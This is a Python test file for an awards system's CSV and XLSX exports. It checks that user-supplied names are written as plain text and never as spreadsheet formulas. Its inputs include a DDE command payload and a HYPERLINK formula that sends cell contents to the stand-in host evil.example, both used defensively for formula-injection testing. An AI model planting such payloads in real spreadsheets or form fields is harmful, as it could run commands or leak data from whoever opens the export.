"""Issue 14, finding 2: award exports write user text as text, never as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
from awards_testkit import OP, harness, reviewed

from shared.exports import csv_cell, risky

SCHEME = {
    "campaign": "1M",
    "phase": "P1",
    "name": "=cmd|'/c calc'!A1",
    "recipient": "individual",
    "rule": {"min_valid": 1},
    "order_by": ["valid"],
    "max_recipients": 10,
}
HOSTILE = [
    ("M-1", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'),
    ("M-2", "+1+1"),
    ("M-3", "-2+3"),
    ("M-4", "@SUM(A1:A2)"),
    ("M-5", "\t=1+1"),
    ("M-6", "\r=1+1"),
    ("M-7", "Nguyễn Văn An"),
]


def test_every_trigger_is_escaped_and_plain_text_is_not() -> None:
    for text in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert risky(text) and csv_cell(text) == "'" + text
    for value in ("Nguyễn Văn An", "1-2", "a=b", 150_000_000, -5, None):
        assert not risky(value)
    assert csv_cell(None) == "" and csv_cell(-5) == -5


async def test_hostile_names_come_out_as_text_in_both_exports(tmp_path: Path) -> None:
    async with harness(tmp_path) as h:
        h.tally.add("SP1", "1M", "P1", "2023-08-31T00:00:00+00:00", [])
        assert (await h.put_scheme("IND-X", SCHEME)).status_code == 200
        await h.publish(*(reviewed(f"i{n}", [author]) for n, author in enumerate(HOSTILE)))
        r = await h.nominate("IND-X", "SP1")
        assert r.status_code == 200 and len(r.json()["items"]) == len(HOSTILE), r.text
        body = {"decision_no": "1/QĐ", "signed_on": "2023-09-07", "approve": "all"}
        assert (await h.client.post("/api/v1/awards/schemes/IND-X/decision", json=body, headers=OP)).status_code == 201

        r = await h.client.get("/api/v1/awards/schemes/IND-X/export", params={"format": "csv"})
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
        names: dict[str, Any] = {row[1]: row[2] for row in rows[1:]}
        for member_id, name in HOSTILE:
            expected = "'" + name if name != "Nguyễn Văn An" else name
            assert names[member_id] == expected, (member_id, names[member_id])
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row if cell)

        r = await h.client.get("/api/v1/awards/schemes/IND-X/export", params={"format": "xlsx"})
        sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        by_member = {row[1].value: row[2] for row in sheet.iter_rows(min_row=3)}
        for member_id, name in HOSTILE:
            cell = by_member[member_id]
            # XML reads a stored carriage return back as a line feed.
            assert cell.value == name.replace("\r", "\n") and cell.data_type == "s"
            assert cell.quotePrefix == (name != "Nguyễn Văn An")
        assert sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix  # the scheme's name too


async def test_a_nul_in_a_scheme_name_is_a_422_not_a_database_error(tmp_path: Path) -> None:
    async with harness(tmp_path) as h:
        r = await h.put_scheme("IND-N", {**SCHEME, "name": "Cá\x00nhân"})
        assert r.status_code == 422, r.text
